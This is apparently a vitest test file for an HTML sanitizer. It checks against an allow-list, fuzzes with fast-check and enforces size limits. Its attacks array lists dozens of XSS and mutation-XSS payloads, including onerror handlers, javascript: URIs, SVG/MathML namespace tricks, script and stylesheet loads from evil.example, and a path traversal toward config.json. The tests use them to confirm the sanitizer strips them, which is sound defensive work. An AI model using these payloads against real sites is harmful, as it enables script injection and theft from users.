import fc from 'fast-check'
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5'
import { describe, expect, test } from 'vitest'
import { plainText } from './plain-text.ts'
import { sanitizeRichText } from './sanitize.ts'

const own = 'p/ab/0123456789abcdef0123456789abcd'

/** The allow-list said a second time: elements, and for each attribute what its value may look like. */
const elements =
  'p br hr h2 h3 h4 blockquote ul ol li figure figcaption strong em u s sub sup mark table caption thead tbody ' +
  'tfoot tr td th a img'
const attributes: Readonly<Record<string, RegExp>> = {
  'a href': /^(https?:\/\/[^\s"'<>]+|\/([^/\\\s][^\s]*)?|tel:\+?[\d-]+|mailto:[\w.+-]+@[\w.-]+)$/,
  'a target': /^_blank$/,
  'a rel': /^noopener noreferrer$/,
  'img src': /^p\/[\da-f]{2}\/[\da-f]{30}$/,
  'img alt': /^[^]*$/,
  'img width': /^\d+$/,
  'img height': /^\d+$/,
  'ol start': /^\d+$/,
  'td colspan': /^\d+$/,
  'td rowspan': /^\d+$/,
  'th colspan': /^\d+$/,
  'th rowspan': /^\d+$/,
  'th scope': /^(col|row)$/,
}
const allowed = new Set(elements.split(' '))

const strangeAttributes = ({ tagName, attrs }: DefaultTreeAdapterTypes.Element): string[] =>
  attrs
    .filter(({ name, value }) => !attributes[`${tagName} ${name}`]?.test(value))
    .map(({ name, value }) => `${tagName} ${name}=${value}`)

/** Whatever a parser finds in a text that is not on the list. */
const strangeIn = (html: string): string[] => {
  const walk = (node: DefaultTreeAdapterTypes.Node): string[] => {
    const inner = 'childNodes' in node ? node.childNodes.flatMap(walk) : []
    if (node.nodeName === '#text' || node.nodeName === '#document-fragment') return inner
    if (!('tagName' in node)) return [node.nodeName]
    const isAllowed =
      allowed.has(node.tagName) && (node.namespaceURI as string) === 'http://www.w3.org/1999/xhtml'
    return [...(isAllowed ? [] : [node.tagName]), ...strangeAttributes(node), ...inner]
  }
  // Once as part of a page with scripts, once as a reader without them.
  return [true, false].flatMap(scriptingEnabled => walk(parseFragment(html, { scriptingEnabled })))
}

/** Looks dangerous, but a browser only shows it, drops it, or goes where the address openly says. */
const harmless = [
  '<a href="/.//evil.example">x</a>',
  '<a href="/x/..//evil.example">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="https://shop.example@evil.example/">x</a>',
  '<body onload=alert(1)><html onclick=alert(1)>',
  '<a href="/search?keyword=&quot;><script>alert(1)</script>">x</a>',
  `<img src="${own}" alt="&quot;><script>alert(1)</script>" width=10 height=10>`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${own}" width=10 height=10 onerror=alert(1) style="position:fixed">`,
  '<img src=data:image/svg+xml;base64,PHN2Zz4= width=1 height=1>',
  `<img srcset="https://evil.example/x 1x" src="${own}" width=1 height=1>`,
  '<img src="https://evil.example/track.gif" width=1 height=1>',
  '<img src="p/ab/../../../config.json" width=1 height=1>',
  '<image href=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="tel:1;alert(1)">x</a>',
  '<a href="mailto:a@b.cn?body=<script>alert(1)</script>">x</a>',
  '<a href="https://a.example" target="_top" rel="opener" ping="https://evil.example">x</a>',
  '<a xlink:href="javascript:alert(1)" id=location name=body>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<template><script>alert(1)</script></template>',
  '<template><p><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<td colspan="expression(alert(1))" onclick=alert(1)>x</td>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)><select><option onclick=alert(1)>x</select>',
  '<base href="https://evil.example/"><a href="page">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)><marquee onstart=alert(1)>x',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<!-- --!> <img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <!-- --> <script>alert(1)</script> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><!doctype html [<!ENTITY x "y">]>',
  '<p/onclick=alert(1)/x><p onclick\n=alert(1)>x',
  '<custom-element onclick=alert(1) is=x>x</custom-element>',
  '<plaintext><img src=x onerror=alert(1)>',
  ...harmless,
]

test('the list sees what is wrong with every attack that a browser would act upon', () => {
  expect(attacks.filter(attack => strangeIn(attack).length === 0)).toEqual(harmless)
})

describe('nothing outside the allow-list is left of', () => {
  test.each(attacks)('%s', attack => {
    const clean = sanitizeRichText(`<p>前</p>${attack}`)
    expect(strangeIn(clean)).toEqual([])
    expect(clean).toContain('<p>前</p>')
    expect(sanitizeRichText(clean)).toBe(clean)
  })
})

test.each([
  ['<h1>标题</h1><h2 id="a" class="b">节</h2><h6>细</h6>', '<h2>标题</h2><h2>节</h2><h4>细</h4>'],
  ['<b>粗</b><i>斜</i><del>删</del><font color=red>色</font>', '<strong>粗</strong><em>斜</em><s>删</s>色'],
  ['<div>一段</div><div><p>内</p></div><p> </p>', '<p>一段</p><p>内</p>'],
  [
    '<ol start="3"><li>三<ul>散<li>点</ul></ol>',
    '<ol start="3"><li>三<ul><li>散</li><li>点</li></ul></li></ol>',
  ],
  ['<li>孤</li>', '<p>孤</p>'],
  [
    '<table border=1><tr><th scope="COL" colspan="2">头</th></tr></table>',
    '<table><tbody><tr><th colspan="2" scope="col">头</th></tr></tbody></table>',
  ],
  [
    `<figure><img src="${own}" width="1200" height="900" alt="薯条"><figcaption>图</figcaption></figure>`,
    `<figure><img src="${own}" alt="薯条" width="1200" height="900"><figcaption>图</figcaption></figure>`,
  ],
  [`<img src="${own}" alt="没有尺寸">`, ''],
  [
    '<a href="/search?keyword=薯条&tag=new">搜</a>',
    '<a href="/search?keyword=%E8%96%AF%E6%9D%A1&amp;tag=new">搜</a>',
  ],
  [
    '<a href="https://example.com/a" onclick=x>外</a>',
    '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">外</a>',
  ],
  ['<a href="tel:400-820-6688">电话</a>', '<a href="tel:400-820-6688">电话</a>'],
  ['<a href="mailto:shop@example.com">邮件</a>', '<a href="mailto:shop@example.com">邮件</a>'],
  ['<a>无处</a>', '无处'],
  ['5 < 6 & 7 > 2', '5 &lt; 6 &amp; 7 &gt; 2'],
])('%s is kept as %s', (given, kept) => {
  expect(sanitizeRichText(given)).toBe(kept)
})

test('words are what is read, parted where elements part them', () => {
  expect(plainText(sanitizeRichText('<h2>解冻</h2><p>不要&lt;水冲&gt;&amp;暴晒。</p>'))).toBe(
    '解冻 不要<水冲>&暴晒。',
  )
})

const names =
  `${elements} div section b i del font h1 h5 h6 nobr svg math mi mtext mglyph malignmark annotation-xml ` +
  'foreignObject title desc style script template noscript textarea select option form button pre plaintext xmp ' +
  'iframe object marquee ruby rt dd dt col colgroup body html head frameset unknown center'
const values = [
  '1',
  'javascript:alert(1)',
  '/search?keyword=a&b',
  'https://example.com/?q="><script>',
  own,
  '</p></style><script>alert(1)</script>',
  'text/html',
]
const attribute = fc.tuple(
  fc.constantFrom(
    ...'href src alt width height style onclick id colspan start scope xlink:href encoding'.split(' '),
  ),
  fc.constantFrom(...values),
)
const opening = fc
  .tuple(fc.constantFrom(...names.split(' ')), fc.array(attribute, { maxLength: 4 }))
  .map(([name, given]) => {
    const written = given.map(([key, value]) => ` ${key}="${value.replaceAll('"', '&quot;')}"`)
    return `<${name}${written.join('')}>`
  })
const soup = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: opening },
      { weight: 2, arbitrary: fc.constantFrom(...names.split(' ')).map(name => `</${name}>`) },
      fc.constantFrom('薯条', ' ', '\n', '&amp;', '&lt;', '&#13;', '&nbsp;', '<', '>', '"', '&#0;', '\uD83C'),
      fc.constantFrom('<!--', '-->', '--!>', '<!-->', '<![CDATA[', ']]>', '<?xml ?>', '<!doctype html>'),
      fc.string({ unit: 'binary', maxLength: 5 }),
    ),
    { maxLength: 40 },
  )
  .map(parts => parts.join(''))

test('any soup becomes allowed text, and cleaning it again changes nothing', { timeout: 60_000 }, () => {
  fc.assert(
    fc.property(soup, given => {
      const clean = sanitizeRichText(given)
      expect(strangeIn(clean)).toEqual([])
      expect(sanitizeRichText(clean)).toBe(clean)
    }),
    { numRuns: 1_500 },
  )
})

test.each(['<b>', '<p>', '<a href=/>', '<table>', '<svg>', '<ul><li>', '<font size=1>'])(
  'ten thousand %s nested in each other are answered too',
  piece => {
    expect(strangeIn(sanitizeRichText(piece.repeat(10_000)))).toEqual([])
  },
)

test('a text beyond any article is refused', () => {
  expect(() => sanitizeRichText('薯'.repeat(200_001))).toThrow('200001')
})

test('a short text that grows to millions of elements is refused', () => {
  const opened = Array.from({ length: 2_000 }, (_, at) => `<b a${at}>`)
  expect(() => sanitizeRichText(`<p>${opened.join('')}${'<p>x'.repeat(2_000)}`)).toThrow('elements')
})
